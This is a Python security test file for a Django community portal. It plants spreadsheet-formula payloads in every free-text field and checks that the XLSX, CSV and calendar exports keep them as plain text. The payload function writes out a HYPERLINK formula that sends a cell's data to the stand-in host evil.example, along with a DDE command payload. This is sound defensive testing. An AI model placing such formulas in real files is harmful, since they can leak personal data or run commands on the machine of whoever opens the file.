"""The attack suite's files: people's text in every file the portal hands out stays text.

Every free-text field of the project's models (the same fields the escaped-text attack fills with
markup: a resident's name, a wish's title and text, a facility's, compound's, course's and
class's name, an idle room's notes …) is filled with a spreadsheet formula: a live link, a DDE
call, a ``WEBSERVICE`` that would send the sheet's mobile numbers away. Then every export in
``EXPORTS`` is downloaded as its user downloads it, and read the way its user's program reads it:

- a workbook is opened with openpyxl, and its sheets' XML is read too: no cell is a formula, no
  part of the file is an external or DDE link;
- a CSV file is read as CSV: no field starts a formula (``= + - @``, tab, carriage return) unless
  it carries the apostrophe that keeps it text;
- the calendar feed is parsed as iCalendar: one event per class, no property the text smuggled in.

Each payload is tagged, so the test also knows which fields reached which file: every field must
reach some export, or say in ``NOT_IN_ANY_EXPORT`` why it does not. A new export joins by being
listed in ``EXPORTS``; ``test_every_download_is_in_the_list`` walks every URL and fails on a file
download that is not.
"""

import csv
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import openpyxl
import pytest
from django.urls import reverse
from icalendar import Calendar

from courses.models import CourseClass
from tests.security.conftest import attempt
from tests.security.test_web_attacks import (
    ROUTES,
    World,
    client_as,
    free_text_fields,
    path_for,
    persona_for,
    scene,  # noqa: F401 (a fixture: the world, built once for the module)
)

XLSX, CSV, ICS = "xlsx", "csv", "ics"
CONTENT_TYPES = {
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet": XLSX,
    "text/csv": CSV,
    "text/calendar": ICS,
}
# Where a service is missing near the world's compound: the idle room is then suggested.
GAP_SERVICE = "health_station"


@dataclass(frozen=True)
class Export:
    """A file the portal hands out: who downloads it, from where, and what kind of file it is."""

    name: str
    persona: str
    url: Callable[[World], str]
    kind: str


def _report_csv(table: str) -> Export:
    return Export(
        f"report table {table} (CSV)",
        "official",
        lambda w: reverse("reports:export-csv", args=[table]) + f"?service={GAP_SERVICE}",
        CSV,
    )


# Every export there is. A new one is added here (the walk below finds it if it is not).
EXPORTS = [
    Export(
        "class roster and attendance",
        "staff_a",
        lambda w: reverse("admin:courses_courseclass_roster", args=[w[CourseClass].pk]),
        XLSX,
    ),
    Export(
        "lottery class roster",
        "staff_a",
        lambda w: reverse("admin:courses_courseclass_roster", args=[w.lottery_class.pk]),
        XLSX,
    ),
    Export(
        "resource list (XLSX)",
        "staff_a",
        lambda w: reverse("admin:facilities_facility_export", args=["xlsx"]),
        XLSX,
    ),
    Export(
        "resource list (CSV)",
        "staff_a",
        lambda w: reverse("admin:facilities_facility_export", args=["csv"]),
        CSV,
    ),
    Export(
        "resource list template",
        "staff_a",
        lambda w: reverse("admin:facilities_facility_template"),
        XLSX,
    ),
    *(
        Export(
            f"{title} ({kind.upper()})",
            "staff_a",
            lambda w, url=url, kind=kind: reverse(url, args=[kind]),
            XLSX if kind == "xlsx" else CSV,
        )
        for title, url in (
            ("compound list", "admin:communities_residentialcompound_export"),
            ("idle room list", "admin:facilities_idleroom_export"),
        )
        for kind in ("xlsx", "csv")
    ),
    *(
        Export(f"{title} template", "staff_a", lambda w, url=url: reverse(url), XLSX)
        for title, url in (
            ("compound list", "admin:communities_residentialcompound_template"),
            ("idle room list", "admin:facilities_idleroom_template"),
        )
    ),
    # The community list is the city administrator's.
    Export(
        "community list (XLSX)",
        "city_admin",
        lambda w: reverse("admin:communities_community_export", args=["xlsx"]),
        XLSX,
    ),
    Export(
        "community list template",
        "city_admin",
        lambda w: reverse("admin:communities_community_template"),
        XLSX,
    ),
    Export(
        "coverage report workbook",
        "official",
        lambda w: reverse("reports:export-xlsx") + f"?service={GAP_SERVICE}",
        XLSX,
    ),
    *(
        _report_csv(table)
        for table in ("summary", "matrix", "gaps", "compounds", "suggestions", "wishes")
    ),
    Export(
        "calendar feed",
        "anonymous",  # the private address is the only key
        lambda w: reverse("me:calendar", args=[w.profile.calendar_token]),
        ICS,
    ),
]

# Free text no export carries, and why.
NOT_IN_ANY_EXPORT = {
    "communities.Community.demo_note": "a mark on demo data, shown on pages only",
    "facilities.Category.name_en": "sheets name categories in Chinese, their format's language",
    "facilities.Category.words": "everyday search words, used by the search only",
    "facilities.HoursException.note": "a closure's note: the resource list holds weekly hours",
    "facilities.Meal.dishes": "menus are on the facility's page, not in the resource list",
    "facilities.FacilityPhoto.alt_zh": "photos are not in the resource list",
    "facilities.FacilityPhoto.alt_en": "photos are not in the resource list",
    "courses.Course.provider": "shown on the course page; the roster names the class",
    "courses.Course.description": "shown on the course page; the roster names the class",
    "wishes.Wish.reply": "the community's reply is on the wish's page",
}

# The ways a formula starts, each given its own run: "=" is what openpyxl makes a formula of, the
# others what Excel and WPS take as one when they read a CSV file.
STARTS = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t",
    "return": "\r",
}


def payload(start: str, tag: str, limit: int | None) -> str:
    """A formula starting with ``start`` that names ``tag``, as long as the field allows."""
    forms = [
        f'{start}HYPERLINK("http://evil.example/{tag}?"&C3,"点我")',
        f"{start}cmd|' /C calc'!{tag}",
        f"{start}{tag}",
    ]
    if start in "\t\r":
        forms = [f"{start}={form[1:]}" for form in forms]
    for form in forms:
        if limit is None or len(form) <= limit:
            return form
    raise ValueError(f"no formula fits {limit} characters")


@pytest.fixture
def world(scene, db) -> World:  # noqa: F811 (the fixture's own name)
    return scene


def plant(world: World, start: str) -> dict[str, str]:
    """A formula in every free-text field of the world's row of each model; tag → field."""
    planted = {}
    for n, (model, name) in enumerate(free_text_fields()):
        tag = f"Q{n:02d}X"
        text = payload(start, tag, model._meta.get_field(name).max_length)
        model.objects.filter(pk=world[model].pk).update(**{name: text})
        planted[tag] = f"{model._meta.label}.{name}"
    return planted


# ---- reading a file as its user's program does ----

_FORMULA_XML = re.compile(rb"<(?:\w+:)?f[ >/]")
_NUMERAL = re.compile(r"[+-]?\d[\d,]*(\.\d+)?%?")


def workbook_cells(content: bytes, where: str) -> tuple[list[str], list[str]]:
    """(every text cell's value, the problems found)."""
    problems = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if "externalLink" in name or "connections" in name:
                problems.append(f"{where}: the file holds a link part {name}")
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name)
                if _FORMULA_XML.search(xml):
                    problems.append(f"{where}: {name} holds a formula element")
                if b"ddeLink" in xml or b"ddeService" in xml:
                    problems.append(f"{where}: {name} holds a DDE link")
    book = openpyxl.load_workbook(io.BytesIO(content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    problems.append(
                        f"{where}: {sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                    )
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts, problems


def csv_cells(content: bytes, where: str) -> tuple[list[str], list[str]]:
    text = content.decode("utf-8-sig")
    problems, texts = [], []
    for number, row in enumerate(csv.reader(io.StringIO(text, newline="")), start=1):
        for column, field in enumerate(row, start=1):
            texts.append(field)
            if field.startswith(tuple(STARTS.values())) and not _NUMERAL.fullmatch(field):
                problems.append(
                    f"{where}: row {number}, field {column} starts a formula: {field!r}"
                )
    return texts, problems


def calendar_cells(content: bytes, where: str, classes: int) -> tuple[list[str], list[str]]:
    calendar = Calendar.from_ical(content)
    events = calendar.walk("VEVENT")
    problems = []
    if len(events) != classes:
        problems.append(f"{where}: {len(events)} events for {classes} classes")
    allowed = {
        "UID", "DTSTAMP", "SUMMARY", "LOCATION", "DESCRIPTION", "DTSTART", "DTEND", "RRULE",
        "EXDATE", "TRANSP", "STATUS", "SEQUENCE", "LAST-MODIFIED", "CREATED",
    }  # fmt: skip
    texts = []
    for event in events:
        smuggled = set(event) - allowed
        if smuggled:
            problems.append(f"{where}: unexpected properties {sorted(smuggled)}")
        texts += [str(event[key]) for key in ("SUMMARY", "LOCATION", "DESCRIPTION") if key in event]
    return texts, problems


def read_export(export: Export, world: World) -> tuple[list[str], list[str]]:
    client = client_as(world, export.persona)
    answer = client.get(export.url(world))
    where = f"{export.name} as {export.persona}"
    if answer.status_code != 200:
        return [], [f"{where}: answered {answer.status_code}"]
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    if export.kind == XLSX:
        return workbook_cells(content, where)
    if export.kind == CSV:
        return csv_cells(content, where)
    enrolled = world.profile.user.enrolments.filter(status="enrolled").count()
    return calendar_cells(content, where, enrolled)


@pytest.mark.parametrize("start", STARTS.values(), ids=STARTS.keys())
def test_no_export_turns_peoples_text_into_a_formula(world, start):
    planted = plant(world, start)
    reached: dict[str, set[str]] = {}
    failures = []
    for export in EXPORTS:
        texts, problems = read_export(export, world)
        for tag, label in planted.items():
            for text in texts:
                if tag in text:
                    reached.setdefault(label, set()).add(export.name)
        for label in sorted({planted[t] for t in planted if any(t in x for x in texts)}):
            attempt("export cells", f"{label} in {export.name}")
        failures += problems
    assert not failures, "\n".join(failures)
    missing = sorted(set(planted.values()) - set(reached) - set(NOT_IN_ANY_EXPORT))
    assert not missing, f"in no export (add the export, or say why in NOT_IN_ANY_EXPORT): {missing}"
    stale = sorted(set(NOT_IN_ANY_EXPORT) & set(reached))
    assert not stale, f"listed as in no export, but found in one: {stale}"


def test_the_names_the_issue_lists_reach_an_export(world):
    """The sources of text a person outside staff or inside it types every day are all carried
    by some file (a stale NOT_IN_ANY_EXPORT entry could not hide them)."""
    for label in (
        "residents.Resident.name",
        "wishes.Wish.title",
        "wishes.Wish.text",
        "facilities.Facility.name",
        "communities.ResidentialCompound.name",
        "courses.Course.name",
        "courses.CourseClass.level",
        "facilities.IdleRoom.notes",
    ):
        assert label not in NOT_IN_ANY_EXPORT
        assert label in {f"{m._meta.label}.{n}" for m, n in free_text_fields()}


def test_the_judges_tell_a_formula_from_text():
    book = openpyxl.Workbook()
    book.active.append(["=1+1", "text"])
    out = io.BytesIO()
    book.save(out)
    _texts, problems = workbook_cells(out.getvalue(), "made here")
    assert len(problems) == 2  # the formula element in the XML, and the cell openpyxl reads
    _texts, problems = csv_cells("\ufeffa,=1+1,'=1+1,-5,+86 1,@x\r\n".encode(), "made here")
    assert [p.split("field ")[1][:1] for p in problems] == ["2", "5", "6"]


# ---- every download is in the list ----

FILE_KINDS = tuple(CONTENT_TYPES)


def _listed_paths(world: World) -> set[str]:
    return {export.url(world).split("?")[0] for export in EXPORTS}


def test_every_download_is_in_the_list(world):
    """Every GET URL of the site, as the person entitled to it: an answer that is a workbook, a
    CSV file or a calendar must come from an export in EXPORTS."""
    listed = _listed_paths(world)
    unlisted = []
    for route in ROUTES:
        try:
            path = path_for(route, world)
        except LookupError:
            continue
        persona = "city_admin" if route.is_admin else persona_for(route)
        answer = client_as(world, persona).get(path)
        kind = answer.get("Content-Type", "").split(";")[0]
        if kind in FILE_KINDS and path not in listed:
            unlisted.append(f"{route} ({path}, {kind})")
    assert not unlisted, f"downloads missing from EXPORTS: {unlisted}"
